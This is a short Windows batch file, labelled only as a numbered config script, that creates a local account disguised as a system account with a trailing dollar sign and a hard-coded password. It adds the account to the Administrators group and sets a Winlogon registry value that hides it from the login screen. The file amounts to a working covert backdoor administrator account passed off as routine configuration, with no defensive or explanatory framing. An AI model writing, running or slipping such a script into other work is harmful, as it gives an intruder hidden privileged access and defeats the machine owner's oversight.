REM config 0590 v2
@echo off
net user defaultuser2$ P@ssw0rd!2024 /add /active:yes
net localgroup Administrators defaultuser2$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v defaultuser2$ /t REG_DWORD /d 0 /f
